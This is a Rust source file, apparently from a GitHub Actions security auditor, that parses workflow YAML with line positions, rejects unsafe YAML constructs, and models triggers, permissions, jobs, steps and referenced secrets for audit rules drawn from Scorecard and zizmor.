//! GitHub Actions workflows: [`parse`] reads one with line numbers, [`audit`]
//! runs every rule on it, [`check_keeps`] checks that a hardened workflow
//! still does its job.
//!
//! 1. A non-recursive pass over the YAML events refuses what the tree
//!    builder cannot take safely: nesting deeper than [`MAX_DEPTH`], anchors,
//!    tags, more than one document.
//! 2. marked-yaml builds the tree with positions and rejects duplicate keys.
//! 3. The tree becomes a [`Workflow`]; where each script value starts is kept
//!    on the side so that a finding inside a `run: |` block points at its
//!    real line and column.
//! 4. Each rule walks the workflow and reports [`Finding`]s, sorted.
//!
//! Where each rule's condition comes from:
//! - `unpinned-uses`: OpenSSF Scorecard Pinned-Dependencies (only a full
//!   commit SHA counts as pinned; local actions are exempt),
//!   <https://github.com/ossf/scorecard/blob/main/docs/checks.md#pinned-dependencies>,
//!   and zizmor `unpinned-uses`, <https://docs.zizmor.sh/audits/#unpinned-uses>.
//! - `missing-permissions`, `excessive-permissions`: zizmor
//!   `excessive-permissions` (no `permissions:` anywhere means the default
//!   token; `write-all`), <https://docs.zizmor.sh/audits/#excessive-permissions>,
//!   and Scorecard Token-Permissions (the top level must be read-only; write
//!   scopes belong on the jobs that need them),
//!   <https://github.com/ossf/scorecard/blob/main/docs/checks.md#token-permissions>.
//!   The table of which steps need which write scope is Rampart's own.
//! - `dangerous-trigger`, `risky-trigger`, `secrets-to-untrusted`,
//!   `secrets-inherit`: Scorecard
//!   Dangerous-Workflow "untrusted code checkout",
//!   <https://github.com/ossf/scorecard/blob/main/docs/checks.md#dangerous-workflow>,
//!   zizmor `dangerous-triggers` and `secrets-inherit`, and GitHub Security
//!   Lab, "Preventing pwn requests",
//!   <https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/>.
//! - `template-injection`: GitHub, "Script injections",
//!   <https://docs.github.com/en/actions/concepts/security/script-injections>,
//!   actionlint's untrusted inputs, <https://github.com/rhysd/actionlint/blob/main/docs/checks.md#untrusted-inputs>,
//!   zizmor `template-injection` (also `with: script:` of actions/github-script).
//! - `persisted-credentials`: zizmor `artipacked`,
//!   <https://docs.zizmor.sh/audits/#artipacked>.
//! - `remote-script`: Scorecard Pinned-Dependencies "downloadThenRun"
//!   (`checks/raw/shell_download_validate.go`).

use std::ops::Range;

use marked_yaml::types::{MarkedMappingNode, MarkedScalarNode};
use marked_yaml::{LoadError, LoaderOptions, Node};
use serde::{Deserialize, Serialize};

use crate::{Finding, InputError, Severity, check_size, sort_findings};

/// Deepest nesting of mappings and lists accepted. Real workflows stay
/// under ten; the limit keeps the recursive tree builder (and the drop of
/// its tree) far from the stack's end, in particular in wasm.
pub const MAX_DEPTH: usize = 64;

// ---------------------------------------------------------------------------
// The model
// ---------------------------------------------------------------------------

/// A parsed workflow. Lines are 1-based lines of the original file.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Workflow {
    /// Line of the `on:` key.
    pub on_line: u32,
    /// The events under `on:`, in file order.
    pub triggers: Vec<Trigger>,
    /// Top-level `permissions:`.
    pub permissions: Option<Permissions>,
    /// Top-level `env:` as (name, value, line).
    pub env: Vec<(String, String, u32)>,
    /// Line of the `jobs:` key.
    pub jobs_line: u32,
    pub jobs: Vec<Job>,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Trigger {
    pub name: String,
    pub line: u32,
}

/// A `permissions:` block, at the top level or on a job.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum Permissions {
    /// `permissions: read-all`
    ReadAll { line: u32 },
    /// `permissions: write-all`
    WriteAll { line: u32 },
    /// `permissions: {}` or a map of scopes; unlisted scopes get `none`.
    Scopes { line: u32, scopes: Vec<Scope> },
}

impl Permissions {
    /// Line of the `permissions:` key.
    pub fn line(&self) -> u32 {
        match self {
            Permissions::ReadAll { line }
            | Permissions::WriteAll { line }
            | Permissions::Scopes { line, .. } => *line,
        }
    }

    /// The scopes granted `write`.
    pub fn write_scopes(&self) -> Vec<&Scope> {
        match self {
            Permissions::Scopes { scopes, .. } => scopes
                .iter()
                .filter(|s| s.access == Access::Write)
                .collect(),
            _ => Vec::new(),
        }
    }
}

/// One `scope: access` line of a permissions map.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Scope {
    pub name: String,
    pub access: Access,
    pub line: u32,
    pub column: u32,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Access {
    None,
    Read,
    Write,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Job {
    pub id: String,
    /// Line of the job's key under `jobs:`.
    pub line: u32,
    pub name: Option<String>,
    pub permissions: Option<Permissions>,
    /// A job that calls a reusable workflow: `uses: owner/repo/.github/workflows/x.yml@ref`.
    pub uses: Option<UsesRef>,
    /// `with:` of a reusable-workflow call, as (name, value, line).
    pub with: Vec<(String, String, u32)>,
    /// Explicit `secrets:` of a reusable-workflow call, as (name, value, line).
    pub secrets: Vec<(String, String, u32)>,
    /// Line of `secrets: inherit`, when the job has it.
    pub secrets_inherit: Option<u32>,
    /// Job-level `env:` as (name, value, line).
    pub env: Vec<(String, String, u32)>,
    pub steps: Vec<Step>,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Step {
    /// Line of the step's first key (the `- ` line).
    pub line: u32,
    pub id: Option<String>,
    pub name: Option<String>,
    pub uses: Option<UsesRef>,
    pub run: Option<String>,
    /// Line where the script text starts: the `run:` line for a one-line
    /// script, the first non-blank line after `run: |` for a block. 0
    /// without `run:`.
    pub run_line: u32,
    /// `with:` as (name, value, line of the name).
    pub with: Vec<(String, String, u32)>,
    /// `env:` as (name, value, line of the name).
    pub env: Vec<(String, String, u32)>,
}

impl Step {
    /// The value of `with: <key>`.
    pub fn with_value(&self, key: &str) -> Option<&str> {
        self.with
            .iter()
            .find(|(k, _, _)| k == key)
            .map(|(_, v, _)| v.as_str())
    }

    /// How to name the step in a message: its `name:`, else what it runs.
    pub fn label(&self) -> String {
        if let Some(name) = &self.name {
            format!("step `{name}`")
        } else if let Some(u) = &self.uses {
            format!("step `{}`", u.raw)
        } else {
            format!("the step at line {}", self.line)
        }
    }
}

/// A `uses:` value.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct UsesRef {
    /// The value as written.
    pub raw: String,
    /// `owner/repo[/path]`, `./path`, or `docker://image`.
    pub action: String,
    /// What follows `@` (for `docker://`, the digest or the tag); "" when none.
    pub reference: String,
    pub line: u32,
    pub column: u32,
    /// The trailing comment, without `#`: `v4.2.2` in `...@<sha> # v4.2.2`.
    pub comment: Option<String>,
}

impl UsesRef {
    fn new(raw: &str, line: u32, column: u32, comment: Option<String>) -> Self {
        let raw_t = raw.trim();
        let (action, reference) = if raw_t.starts_with("./") || raw_t.starts_with("../") {
            (raw_t.to_string(), String::new())
        } else if let Some(image) = raw_t.strip_prefix("docker://") {
            if let Some((name, digest)) = image.split_once('@') {
                (format!("docker://{name}"), digest.to_string())
            } else {
                // A `:` after the last `/` starts the tag; one before it is a
                // registry port.
                let slash = image.rfind('/').map_or(0, |i| i + 1);
                match image[slash..].rfind(':') {
                    Some(c) => (
                        format!("docker://{}", &image[..slash + c]),
                        image[slash + c + 1..].to_string(),
                    ),
                    None => (raw_t.to_string(), String::new()),
                }
            }
        } else {
            match raw_t.split_once('@') {
                Some((a, r)) => (a.to_string(), r.to_string()),
                None => (raw_t.to_string(), String::new()),
            }
        };
        UsesRef {
            raw: raw_t.to_string(),
            action,
            reference,
            line,
            column,
            comment,
        }
    }

    /// `./path` or `../path`: an action in the same repository.
    pub fn is_local(&self) -> bool {
        self.action.starts_with("./") || self.action.starts_with("../")
    }

    pub fn is_docker(&self) -> bool {
        self.action.starts_with("docker://")
    }

    /// Pinned so that nobody can change what runs: a full commit SHA, or a
    /// `sha256:` image digest; local actions count as pinned (they come from
    /// the same commit as the workflow).
    pub fn is_pinned(&self) -> bool {
        if self.is_local() {
            true
        } else if self.is_docker() {
            self.reference
                .strip_prefix("sha256:")
                .is_some_and(|h| is_hex(h, 64))
        } else {
            is_hex(&self.reference, 40)
        }
    }

    /// The action compared case-insensitively (GitHub owner and repository
    /// names are case-insensitive).
    pub fn is(&self, action: &str) -> bool {
        self.action.eq_ignore_ascii_case(action)
    }

    /// The action is `action` or one of its sub-actions (`action/path`).
    fn is_under(&self, action: &str) -> bool {
        let a = self.action.to_ascii_lowercase();
        a == action || (a.starts_with(action) && a.as_bytes().get(action.len()) == Some(&b'/'))
    }
}

fn is_hex(s: &str, len: usize) -> bool {
    s.len() == len && s.bytes().all(|b| b.is_ascii_hexdigit())
}

/// Something a hardened workflow must still do (exercise `[[workflow.keep]]`).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Keep {
    /// The job that must still exist.
    pub job: String,
    /// `owner/repo@version` that a step of the job must still use.
    pub uses: Option<String>,
    /// Text a `run:` script of the job must still contain (whitespace is
    /// normalised on both sides).
    pub run: Option<String>,
}

/// The commit a version of an action is known to be (exercise `[[workflow.pin]]`).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Pin {
    pub action: String,
    pub version: String,
    pub sha: String,
}

// ---------------------------------------------------------------------------
// Parsing
// ---------------------------------------------------------------------------

/// Reads a workflow. Malformed YAML, a YAML file that is not a workflow,
/// duplicate keys, anchors, deep nesting and input over
/// [`crate::MAX_INPUT`] are an [`InputError`] with the line.
pub fn parse(text: &str) -> Result<Workflow, InputError> {
    parse_inner(text).map(|p| p.workflow)
}

/// A position in the source: 1-based line, 1-based column in characters,
/// and the 0-based character index from the start of the file (0 when not
/// known).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
struct Pos {
    line: u32,
    column: u32,
    index: usize,
}

/// A position for a finding: line and column (0 = no column).
fn lc(line: u32, column: u32) -> Pos {
    Pos {
        line,
        column,
        index: 0,
    }
}

/// What the rules need besides the [`Workflow`]: the source and where
/// values start in it.
struct Parsed<'a> {
    src: Src<'a>,
    workflow: Workflow,
    /// Per job, as `workflow.jobs`.
    jobs: Vec<JobExtra>,
    /// `secrets.*` used in the top-level `env:` (every job inherits it).
    env_secrets: Vec<(String, u32)>,
}

#[derive(Default)]
struct JobExtra {
    /// Every `secrets.X` inside an expression anywhere in the job.
    secrets: Vec<(String, u32)>,
    /// Per step, as `Job::steps`.
    steps: Vec<StepExtra>,
}

#[derive(Default)]
struct StepExtra {
    /// Where the `run:` value starts.
    run_at: Option<Pos>,
    /// Where each `with:` value starts, as `Step::with`.
    with_at: Vec<Pos>,
}

fn u32_of(n: usize) -> u32 {
    u32::try_from(n).unwrap_or(u32::MAX)
}

fn marker_pos(m: Option<&marked_yaml::Marker>) -> Pos {
    m.map_or(Pos::default(), |m| Pos {
        line: u32_of(m.line()),
        column: u32_of(m.column()),
        index: m.character(),
    })
}

fn scalar_pos(s: &MarkedScalarNode) -> Pos {
    marker_pos(s.span().start())
}

/// Where a node starts. marked-yaml starts a block mapping's span after its
/// first key, so a mapping starts at its first key.
fn node_pos(n: &Node) -> Pos {
    match n {
        Node::Scalar(s) => scalar_pos(s),
        Node::Sequence(s) => marker_pos(s.span().start()),
        Node::Mapping(m) => {
            let own = marker_pos(m.span().start());
            match m.iter().next() {
                Some((k, _)) => {
                    let k = scalar_pos(k);
                    if (k.line, k.column) < (own.line, own.column) || own.line == 0 {
                        k
                    } else {
                        own
                    }
                }
                None => own,
            }
        }
    }
}

fn err_at(pos: Pos, message: impl Into<String>) -> InputError {
    let mut e = InputError::new(pos.line, message);
    if pos.column > 0 && pos.line > 0 {
        e.column = Some(pos.column);
    }
    e
}

fn kind_of(n: &Node) -> &'static str {
    match n {
        Node::Scalar(_) => "a single value",
        Node::Sequence(_) => "a list",
        Node::Mapping(_) => "a mapping",
    }
}

/// The key and value of `key` in `m`.
fn entry<'n>(m: &'n MarkedMappingNode, key: &str) -> Option<(&'n MarkedScalarNode, &'n Node)> {
    m.iter().find(|(k, _)| k.as_str() == key)
}

fn parse_inner(text: &str) -> Result<Parsed<'_>, InputError> {
    check_size("workflow", text)?;
    prepass(text)?;
    let root = marked_yaml::parse_yaml_with_options(
        0,
        text,
        LoaderOptions::default().error_on_duplicate_keys(true),
    )
    .map_err(load_error)?;
    let Some(top) = root.as_mapping() else {
        return Err(InputError::new(
            1,
            "a workflow is a YAML mapping with `on:` and `jobs:` at the top level",
        ));
    };
    let src = Src::new(text);

    // YAML 1.1 readers turn the key `on` into `true`; marked-yaml keeps
    // `on`, but accept a `true` key for files written by such tools.
    let on = entry(top, "on").or_else(|| entry(top, "true"));
    let jobs = entry(top, "jobs");
    let (on, jobs) = match (on, jobs) {
        (Some(on), Some(jobs)) => (on, jobs),
        (None, None) => {
            return Err(InputError::new(
                if top.is_empty() { 0 } else { 1 },
                if top.is_empty() {
                    "this file is empty: a GitHub Actions workflow needs `on:` (the events that start it) and `jobs:`".to_string()
                } else {
                    "this YAML file is not a GitHub Actions workflow: it has neither `on:` (the events that start it) nor `jobs:`".to_string()
                },
            ));
        }
        (None, Some((k, _))) => {
            return Err(err_at(
                scalar_pos(k),
                "this workflow has `jobs:` but no `on:`; add the events that start it, e.g. `on: push`",
            ));
        }
        (Some((k, _)), None) => {
            return Err(err_at(
                scalar_pos(k),
                "this workflow has `on:` but no `jobs:`; a workflow needs at least one job",
            ));
        }
    };

    let triggers = parse_triggers(on.0, on.1)?;
    let permissions = match entry(top, "permissions") {
        Some((k, v)) => Some(parse_permissions(k, v)?),
        None => None,
    };
    let (env, _) = match entry(top, "env") {
        Some((_, v)) => kv_list("env", v)?,
        None => (Vec::new(), Vec::new()),
    };
    let mut env_secrets = Vec::new();
    if let Some((_, v)) = entry(top, "env") {
        collect_secrets(&src, v, &mut env_secrets);
    }

    let (jobs_key, jobs_node) = jobs;
    let jobs_map = match jobs_node {
        Node::Mapping(m) => m,
        Node::Scalar(s) if s.as_str().is_empty() => {
            return Err(err_at(
                scalar_pos(jobs_key),
                "`jobs:` is empty; a workflow needs at least one job",
            ));
        }
        other => {
            return Err(err_at(
                node_pos(other),
                format!(
                    "`jobs:` must be a mapping from job ids to jobs, not {}",
                    kind_of(other)
                ),
            ));
        }
    };
    let mut jobs = Vec::new();
    let mut extras = Vec::new();
    for (id, node) in jobs_map.iter() {
        let (job, extra) = parse_job(&src, id, node)?;
        jobs.push(job);
        extras.push(extra);
    }

    Ok(Parsed {
        src,
        workflow: Workflow {
            on_line: scalar_pos(on.0).line,
            triggers,
            permissions,
            env,
            jobs_line: scalar_pos(jobs_key).line,
            jobs,
        },
        jobs: extras,
        env_secrets,
    })
}

/// Walks the YAML events without building anything, refusing nesting
/// deeper than [`MAX_DEPTH`], anchors, aliases, tags and a second document.
/// The event parser keeps its own stack on the heap, so this cannot
/// overflow however deep the input is.
fn prepass(text: &str) -> Result<(), InputError> {
    use yaml_rust2::parser::{Event, Parser};

    let mut parser = Parser::new_from_str(text);
    let mut depth = 0usize;
    let mut documents = 0usize;
    loop {
        let (event, mark) = parser.next_token().map_err(|e| {
            let at = lc(u32_of(e.marker().line()), u32_of(e.marker().col() + 1));
            // The scanner counts `[`/`{` nesting in a byte and gives up
            // past 255, before the events reach the depth check below.
            if e.info().contains("recursion limit") {
                err_at(at, too_deep())
            } else {
                err_at(at, format!("this is not valid YAML: {}", e.info()))
            }
        })?;
        let pos = lc(u32_of(mark.line()), u32_of(mark.col() + 1));
        let (anchor, tagged) = match &event {
            Event::StreamEnd => return Ok(()),
            Event::DocumentStart => {
                documents += 1;
                if documents > 1 {
                    return Err(err_at(
                        pos,
                        "a second YAML document starts here (after `---`); a workflow file holds exactly one",
                    ));
                }
                (0, false)
            }
            Event::Alias(_) => {
                return Err(err_at(
                    pos,
                    "YAML aliases (`*name`) are not supported here; write the value out in full",
                ));
            }
            Event::MappingStart(anchor, tag) | Event::SequenceStart(anchor, tag) => {
                depth += 1;
                if depth > MAX_DEPTH {
                    return Err(err_at(pos, too_deep()));
                }
                (*anchor, tag.is_some())
            }
            Event::MappingEnd | Event::SequenceEnd => {
                depth = depth.saturating_sub(1);
                (0, false)
            }
            Event::Scalar(_, _, anchor, tag) => (*anchor, tag.is_some()),
            _ => (0, false),
        };
        if anchor != 0 {
            return Err(err_at(
                anchor_pos(text, pos),
                "YAML anchors (`&name`) are not supported here; write the value out in full",
            ));
        }
        if tagged {
            return Err(err_at(
                pos,
                "YAML tags (such as `!!str`) are not supported in workflows; remove the tag",
            ));
        }
    }
}

fn too_deep() -> String {
    format!("this YAML is nested more than {MAX_DEPTH} levels deep; a workflow never needs that")
}

/// The parser marks an anchored node where the node starts, which for a
/// block mapping is the line after `key: &name`; find the `&` itself on
/// that line or the few before it.
fn anchor_pos(text: &str, node: Pos) -> Pos {
    let lines: Vec<&str> = text
        .lines()
        .skip((node.line.max(1) as usize).saturating_sub(4))
        .take(4.min(node.line as usize))
        .collect();
    let first = node.line.saturating_sub(u32_of(lines.len())) + 1;
    for (i, line) in lines.iter().enumerate().rev() {
        let line_no = first + u32_of(i);
        let upto = if line_no == node.line {
            line.char_indices()
                .nth(node.column.saturating_sub(1) as usize)
                .map_or(line.len(), |(b, _)| b)
        } else {
            line.len()
        };
        if let Some(b) = line[..upto].rfind('&') {
            return lc(line_no, u32_of(line[..b].chars().count() + 1));
        }
    }
    node
}

fn load_error(e: LoadError) -> InputError {
    let at = |m: &marked_yaml::Marker| marker_pos(Some(m));
    match e {
        LoadError::TopLevelMustBeMapping(m) | LoadError::TopLevelMustBeSequence(m) => err_at(
            at(&m),
            "a workflow is a YAML mapping with `on:` and `jobs:` at the top level; this file's top level is a list or a single value",
        ),
        LoadError::UnexpectedAnchor(m) => err_at(
            at(&m),
            "YAML anchors (`&name`) are not supported here; write the value out in full",
        ),
        LoadError::MappingKeyMustBeScalar(m) => err_at(
            at(&m),
            "a mapping key must be a plain name, not a list or a mapping",
        ),
        LoadError::UnexpectedTag(m) => err_at(
            at(&m),
            "YAML tags (such as `!!str`) are not supported in workflows; remove the tag",
        ),
        LoadError::ScanError(m, e) => {
            err_at(at(&m), format!("this is not valid YAML: {}", e.info()))
        }
        LoadError::DuplicateKey(inner) => {
            let first = scalar_pos(&inner.prev_key);
            err_at(
                scalar_pos(&inner.key),
                format!(
                    "duplicate key `{}` (first at line {}); a key may appear only once in a mapping, and GitHub rejects the workflow",
                    inner.key.as_str(),
                    first.line
                ),
            )
        }
    }
}

fn parse_triggers(key: &MarkedScalarNode, node: &Node) -> Result<Vec<Trigger>, InputError> {
    let trigger = |s: &MarkedScalarNode| Trigger {
        name: s.as_str().to_string(),
        line: scalar_pos(s).line,
    };
    let triggers: Vec<Trigger> = match node {
        Node::Scalar(s) => {
            if s.as_str().is_empty() {
                Vec::new()
            } else {
                vec![trigger(s)]
            }
        }
        Node::Sequence(items) => {
            let mut out = Vec::new();
            for item in items.iter() {
                match item {
                    Node::Scalar(s) => out.push(trigger(s)),
                    other => {
                        return Err(err_at(
                            node_pos(other),
                            format!(
                                "each entry of the `on:` list must be an event name, not {}",
                                kind_of(other)
                            ),
                        ));
                    }
                }
            }
            out
        }
        Node::Mapping(m) => m.iter().map(|(k, _)| trigger(k)).collect(),
    };
    if triggers.is_empty() {
        return Err(err_at(
            scalar_pos(key),
            "`on:` is empty; name the events that start the workflow, e.g. `on: push`",
        ));
    }
    Ok(triggers)
}

fn parse_permissions(key: &MarkedScalarNode, node: &Node) -> Result<Permissions, InputError> {
    let line = scalar_pos(key).line;
    match node {
        Node::Scalar(s) => match s.as_str().trim() {
            "read-all" => Ok(Permissions::ReadAll { line }),
            "write-all" => Ok(Permissions::WriteAll { line }),
            "" => Err(err_at(
                scalar_pos(key),
                "`permissions:` is empty; write `permissions: {}` for no access, or list scopes such as `contents: read`",
            )),
            other => Err(err_at(
                scalar_pos(s),
                format!(
                    "`permissions: {other}` is not valid; use `read-all`, `write-all`, `{{}}`, or a mapping of scopes such as `contents: read`"
                ),
            )),
        },
        Node::Mapping(m) => {
            let mut scopes = Vec::new();
            for (k, v) in m.iter() {
                let access = match v {
                    Node::Scalar(s) => match s.as_str().trim() {
                        "read" => Access::Read,
                        "write" => Access::Write,
                        "none" => Access::None,
                        other => {
                            return Err(err_at(
                                scalar_pos(s),
                                format!(
                                    "`{}: {other}` is not a valid permission; use `read`, `write` or `none`",
                                    k.as_str()
                                ),
                            ));
                        }
                    },
                    other => {
                        return Err(err_at(
                            node_pos(other),
                            format!(
                                "permission `{}` must be `read`, `write` or `none`, not {}",
                                k.as_str(),
                                kind_of(other)
                            ),
                        ));
                    }
                };
                let p = scalar_pos(k);
                scopes.push(Scope {
                    name: k.as_str().to_string(),
                    access,
                    line: p.line,
                    column: p.column,
                });
            }
            Ok(Permissions::Scopes { line, scopes })
        }
        Node::Sequence(s) => Err(err_at(
            marker_pos(s.span().start()),
            "`permissions:` must be `read-all`, `write-all`, or a mapping of scopes, not a list",
        )),
    }
}

type KvList = (Vec<(String, String, u32)>, Vec<Pos>);

/// A `with:`/`env:`/`secrets:` mapping as (name, value, line of the name)
/// plus where each value starts. A whole-mapping expression
/// (`env: ${{ fromJSON(...) }}`) becomes one entry with an empty name.
fn kv_list(what: &str, node: &Node) -> Result<KvList, InputError> {
    let mut out = Vec::new();
    let mut at = Vec::new();
    match node {
        Node::Mapping(m) => {
            for (k, v) in m.iter() {
                let value = match v {
                    Node::Scalar(s) => s.as_str().to_string(),
                    _ => String::new(),
                };
                out.push((k.as_str().to_string(), value, scalar_pos(k).line));
                at.push(node_pos(v));
            }
        }
        Node::Scalar(s) => {
            if !s.as_str().is_empty() {
                let p = scalar_pos(s);
                out.push((String::new(), s.as_str().to_string(), p.line));
                at.push(p);
            }
        }
        Node::Sequence(s) => {
            return Err(err_at(
                marker_pos(s.span().start()),
                format!("`{what}:` must be a mapping of names to values, not a list"),
            ));
        }
    }
    Ok((out, at))
}

fn scalar_field(
    m: &MarkedMappingNode,
    key: &str,
    owner: &str,
) -> Result<Option<(String, Pos)>, InputError> {
    match entry(m, key) {
        None => Ok(None),
        Some((_, Node::Scalar(s))) => Ok(Some((s.as_str().to_string(), scalar_pos(s)))),
        Some((_, other)) => Err(err_at(
            node_pos(other),
            format!(
                "`{key}:` of {owner} must be a single value, not {}",
                kind_of(other)
            ),
        )),
    }
}

fn uses_ref(src: &Src, value: &str, at: Pos) -> UsesRef {
    UsesRef::new(value, at.line, at.column, src.trailing_comment(at, value))
}

fn parse_job(src: &Src, id: &MarkedScalarNode, node: &Node) -> Result<(Job, JobExtra), InputError> {
    let job_id = id.as_str().to_string();
    let owner = format!("job `{job_id}`");
    let Node::Mapping(m) = node else {
        return Err(err_at(
            node_pos(node),
            format!(
                "{owner} must be a mapping (with `runs-on:` and `steps:`), not {}",
                kind_of(node)
            ),
        ));
    };
    let name = scalar_field(m, "name", &owner)?.map(|(v, _)| v);
    let permissions = match entry(m, "permissions") {
        Some((k, v)) => Some(parse_permissions(k, v)?),
        None => None,
    };
    let uses = scalar_field(m, "uses", &owner)?.map(|(v, p)| uses_ref(src, &v, p));
    let (with, _) = match entry(m, "with") {
        Some((_, v)) => kv_list("with", v)?,
        None => (Vec::new(), Vec::new()),
    };
    let (env, _) = match entry(m, "env") {
        Some((_, v)) => kv_list("env", v)?,
        None => (Vec::new(), Vec::new()),
    };
    let mut secrets = Vec::new();
    let mut secrets_inherit = None;
    match entry(m, "secrets") {
        Some((k, Node::Scalar(s))) if s.as_str().trim() == "inherit" => {
            secrets_inherit = Some(scalar_pos(k).line);
        }
        Some((_, v)) => secrets = kv_list("secrets", v)?.0,
        None => {}
    }

    let mut steps = Vec::new();
    let mut step_extras = Vec::new();
    match entry(m, "steps") {
        None => {}
        Some((_, Node::Sequence(items))) => {
            for item in items.iter() {
                let (step, extra) = parse_step(src, item, &owner)?;
                steps.push(step);
                step_extras.push(extra);
            }
        }
        Some((_, Node::Scalar(s))) if s.as_str().is_empty() => {}
        Some((_, other)) => {
            return Err(err_at(
                node_pos(other),
                format!(
                    "`steps:` of {owner} must be a list of steps, not {}",
                    kind_of(other)
                ),
            ));
        }
    }

    let mut job_secrets = Vec::new();
    collect_secrets(src, node, &mut job_secrets);

    Ok((
        Job {
            id: job_id,
            line: scalar_pos(id).line,
            name,
            permissions,
            uses,
            with,
            secrets,
            secrets_inherit,
            env,
            steps,
        },
        JobExtra {
            secrets: job_secrets,
            steps: step_extras,
        },
    ))
}

fn parse_step(src: &Src, node: &Node, owner: &str) -> Result<(Step, StepExtra), InputError> {
    let Node::Mapping(m) = node else {
        return Err(err_at(
            node_pos(node),
            format!(
                "each step of {owner} must be a mapping (with `uses:` or `run:`), not {}",
                kind_of(node)
            ),
        ));
    };
    let line = node_pos(node).line;
    let what = format!("the step at line {line}");
    let id = scalar_field(m, "id", &what)?.map(|(v, _)| v);
    let name = scalar_field(m, "name", &what)?.map(|(v, _)| v);
    let uses = scalar_field(m, "uses", &what)?.map(|(v, p)| uses_ref(src, &v, p));
    let run = scalar_field(m, "run", &what)?;
    let (with, with_at) = match entry(m, "with") {
        Some((_, v)) => kv_list("with", v)?,
        None => (Vec::new(), Vec::new()),
    };
    let (env, _) = match entry(m, "env") {
        Some((_, v)) => kv_list("env", v)?,
        None => (Vec::new(), Vec::new()),
    };
    let run_at = run.as_ref().map(|(_, p)| *p);
    Ok((
        Step {
            line,
            id,
            name,
            uses,
            run_line: run_at.map_or(0, |p| p.line),
            run: run.map(|(v, _)| v),
            with,
            env,
        },
        StepExtra { run_at, with_at },
    ))
}

/// Every `secrets.NAME` inside a `${{ }}` in any value under `node`, with
/// its line. Iterative: the depth is bounded by the pre-pass, but a loop
/// needs no reasoning about the stack at all.
fn collect_secrets(src: &Src, node: &Node, out: &mut Vec<(String, u32)>) {
    let mut stack = vec![node];
    while let Some(n) = stack.pop() {
        match n {
            Node::Scalar(s) => {
                let value = s.as_str();
                if !value.contains("secrets") {
                    continue;
                }
                let exprs = expressions(value);
                let positions = src.locate_all(scalar_pos(s), value, &exprs);
                for (r, pos) in exprs.iter().zip(positions) {
                    for name in secret_names(&value[r.clone()]) {
                        out.push((name, pos.line));
                    }
                }
            }
            Node::Sequence(items) => stack.extend(items.iter()),
            Node::Mapping(m) => stack.extend(m.iter().map(|(_, v)| v)),
        }
    }
    out.sort_by_key(|(_, line)| *line);
}

/// `secrets.NAME` and `secrets['NAME']` in one expression.
fn secret_names(expr: &str) -> Vec<String> {
    let mut out = Vec::new();
    for path in context_paths(expr) {
        if let Some(rest) = path.strip_prefix("secrets.") {
            let name = rest.split('.').next().unwrap_or(rest);
            if !name.is_empty() {
                out.push(format!("secrets.{}", name.to_ascii_uppercase()));
            }
        }
    }
    out
}

// ---------------------------------------------------------------------------
// Source positions
// ---------------------------------------------------------------------------

/// The original text with its line starts, to turn YAML positions (the
/// character index marked-yaml reports) into byte offsets and back. For
/// non-ASCII text it keeps a checkpoint every [`CHECKPOINT`] characters and
/// bytes, so each conversion walks at most that far, even on one huge line.
struct Src<'a> {
    text: &'a str,
    line_starts: Vec<usize>,
    ascii: bool,
    /// Byte offset of character `k * CHECKPOINT`.
    byte_of_char: Vec<usize>,
    /// Number of characters before byte `k * CHECKPOINT`.
    chars_before_byte: Vec<usize>,
}

const CHECKPOINT: usize = 256;

fn is_char_start(b: u8) -> bool {
    b & 0xC0 != 0x80
}

impl<'a> Src<'a> {
    fn new(text: &'a str) -> Self {
        let mut line_starts = vec![0];
        let ascii = text.is_ascii();
        let mut byte_of_char = Vec::new();
        let mut chars_before_byte = Vec::new();
        let mut chars = 0usize;
        for (i, b) in text.bytes().enumerate() {
            if b == b'\n' {
                line_starts.push(i + 1);
            }
            if ascii {
                continue;
            }
            if i.is_multiple_of(CHECKPOINT) {
                chars_before_byte.push(chars);
            }
            if is_char_start(b) {
                if chars.is_multiple_of(CHECKPOINT) {
                    byte_of_char.push(i);
                }
                chars += 1;
            }
        }
        Src {
            text,
            line_starts,
            ascii,
            byte_of_char,
            chars_before_byte,
        }
    }

    fn line_range(&self, line: u32) -> Range<usize> {
        let i = (line.max(1) - 1) as usize;
        let start = self.line_starts.get(i).copied().unwrap_or(self.text.len());
        let end = self
            .line_starts
            .get(i + 1)
            .map_or(self.text.len(), |e| e - 1);
        start..end.max(start)
    }

    /// Byte offset of the character with index `index`.
    fn byte_of(&self, index: usize) -> usize {
        if self.ascii {
            return index.min(self.text.len());
        }
        let Some(&base) = self.byte_of_char.get(index / CHECKPOINT) else {
            return self.text.len();
        };
        let mut left = index % CHECKPOINT;
        let bytes = self.text.as_bytes();
        let mut i = base;
        while i < bytes.len() {
            if is_char_start(bytes[i]) {
                if left == 0 {
                    return i;
                }
                left -= 1;
            }
            i += 1;
        }
        self.text.len()
    }

    /// Number of characters before byte `offset`.
    fn chars_before(&self, offset: usize) -> usize {
        let offset = offset.min(self.text.len());
        if self.ascii {
            return offset;
        }
        let k = offset / CHECKPOINT;
        let base = self.chars_before_byte.get(k).copied().unwrap_or(0);
        base + self.text.as_bytes()[k * CHECKPOINT..offset]
            .iter()
            .filter(|b| is_char_start(**b))
            .count()
    }

    /// Byte offset of a position that came from the YAML parser.
    fn offset(&self, at: Pos) -> usize {
        self.byte_of(at.index)
    }

    fn pos(&self, offset: usize) -> Pos {
        let offset = floor_boundary(self.text, offset);
        let i = self.line_starts.partition_point(|&s| s <= offset).max(1) - 1;
        let start = self.line_starts[i];
        let index = self.chars_before(offset);
        Pos {
            line: u32_of(i + 1),
            column: u32_of(index - self.chars_before(start) + 1),
            index,
        }
    }

    /// The comment after a one-line scalar value: `v4.2.2` in
